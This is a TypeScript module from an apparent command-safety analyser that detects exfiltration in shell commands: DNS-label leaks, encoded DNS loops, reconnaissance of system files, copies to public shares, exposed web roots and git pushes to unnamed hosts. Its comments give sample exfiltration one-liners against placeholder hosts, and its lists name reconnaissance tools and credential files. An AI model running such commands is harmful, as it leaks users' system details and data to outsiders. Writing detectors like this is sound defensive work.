import { isExfiltrationHost } from '@ase/url-analysis'
import { type Command, type Line, UNKNOWN, type Word } from '../model/model.ts'
import { isForeignSource } from './package-sources.ts'

const dnsClients: ReadonlySet<string> = new Set([
  'dig',
  'nslookup',
  'host',
  'drill',
  'kdig',
  'ping',
  'ping6',
  'getent',
  'resolvectl',
])

/**
 * Does a command put the output of another one into a name that a third party resolves: `dig $(whoami).drop.example`?
 */
export function leaksThroughDns({ name, words }: Command): boolean {
  if (!dnsClients.has(name)) return false
  return words.some(
    ({ text, substitutions }) =>
      (substitutions.length > 0 || /\uE000.{0,80}\uE000/.test(text)) && endsInDomain(text),
  )
}

const encoders: ReadonlySet<string> = new Set([
  'base64',
  'base32',
  'xxd',
  'od',
  'hexdump',
  'basenc',
])

/**
 * Does a script send a file piece by piece as labels of names: `for c in $(base64 -w30 file); do dig $c.x.example;
 * done`?
 */
export function leaksThroughDnsLoop(lines: readonly Line[]): boolean {
  let encodes = false
  for (const { commands } of lines)
    for (const command of commands) {
      encodes ||= encoders.has(command.name) || loopsOverEncoded(command)
      if (encodes && dnsClients.has(command.name) && command.words.some(isUnseenLabel)) return true
    }
  return false
}

function loopsOverEncoded({ name, words }: Command): boolean {
  return (
    name === 'for' &&
    words.some(({ substitutions }) =>
      substitutions.some(({ commands }) =>
        commands.some(({ argv }) => encoders.has(argv[0]?.text ?? '')),
      ),
    )
  )
}

function isUnseenLabel({ text }: Word): boolean {
  return text.startsWith(UNKNOWN) && endsInDomain(text)
}

/** After what is only known at run time comes a domain of two labels or more. */
function endsInDomain(text: string): boolean {
  const labels = text
    .slice(text.lastIndexOf('\uE000') + 1, 400)
    .replace(/\.$/, '')
    .split('.')
  return labels.length > 2 && labels.every((label) => /^[a-z0-9-]{0,63}$/i.test(label))
}

const machineDetailPrograms: ReadonlySet<string> = new Set([
  'whoami',
  'id',
  'uname',
  'hostname',
  'ifconfig',
  'ps',
  'netstat',
  'ss',
  'history',
  'last',
  'w',
  'lsof',
  'arp',
])

/** Does the command print facts about the machine and its users (`whoami`, `cat /etc/passwd`)? */
export function printsMachineDetails({ name, args }: Command): boolean {
  if (machineDetailPrograms.has(name)) return true
  return (
    name === 'cat' &&
    args.some((arg) =>
      /^\/etc\/(?:passwd|group|hosts|resolv\.conf|crontab|issue|os-release)$|^\/proc\/(?:version|cpuinfo|self\/)/.test(
        arg,
      ),
    )
  )
}

/**
 * Does the URL or host not show whose it is: a bare public IP address, or a service that accepts anything from anyone?
 */
export function isUnidentifiedHost(text: string): boolean {
  const host =
    /^(?:[a-z]{2,6}:\/\/)?(?:[^@/\s]{1,80}@)?(\d{1,3}(?:\.\d{1,3}){3})(?:[:/?#]|$)/i.exec(
      text.slice(0, 300),
    )?.[1]
  if (host === undefined) return isExfiltrationHost(text)
  return !/^(?:127\.|10\.|192\.168\.|172\.(?:1[6-9]|2\d|3[01])\.|169\.254\.|0\.)/.test(host)
}

/** Programs that copy to their last operand, a share of another machine included. */
export const copyPrograms: ReadonlySet<string> = new Set([
  'cp',
  'copy',
  'copy-item',
  'move',
  'move-item',
  'mv',
  'xcopy',
  'robocopy',
])

/** Does the command copy to a share on a public machine without a name: `copy db.sql \\203.0.113.5\share`? */
export function copiesToPublicShare({ name, args }: Command): boolean {
  if (!copyPrograms.has(name)) return false
  return args.some((arg, at) => {
    if (at === 0 || !arg.startsWith('\\')) return false
    const host = arg.replace(/^\\{1,4}/, '')
    return /^\d/.test(host) && isUnidentifiedHost(host.slice(0, 64).replace(/\\/g, '/'))
  })
}

/** Does a web server serve a folder that holds the system or a whole home? */
export function servesPrivateFolder({ name, args }: Command): boolean {
  const at = args.findIndex((arg) => /^(?:-h|-d|--directory|-t|--dir|--root)$/.test(arg))
  const folder = args[at + 1] ?? ''
  if (at < 0 || !/^(?:\/|~|\/(?:etc|root|home|var|Users)(?:\/[\w.-]{1,60})?)\/?$/.test(folder))
    return false
  return (
    name === 'httpd' ||
    (name === 'python' && args.includes('http.server')) ||
    (name === 'php' && args.includes('-S')) ||
    /^(?:http-server|serve|caddy|twistd|darkhttpd|busybox)$/.test(name)
  )
}

/**
 * Does git push to, or add as a remote, a machine without a name (`git push http://203.0.113.9/r.git`), or push all
 * refs to a URL that is no remote?
 */
export function pushesToThirdParty({ name, args }: Command): boolean {
  if (name !== 'git') return false
  const verb = args.find((arg) => !arg.startsWith('-'))
  return (
    (verb === 'push' ||
      (verb === 'remote' && /^(?:add|set-url)$/.test(args[args.indexOf('remote') + 1] ?? ''))) &&
    (args.some(isUnidentifiedHost) ||
      // All refs, to a URL that is no remote of the repository.
      (args.some((arg) => arg === '--all' || arg === '--mirror') && args.some(isForeignSource)))
  )
}
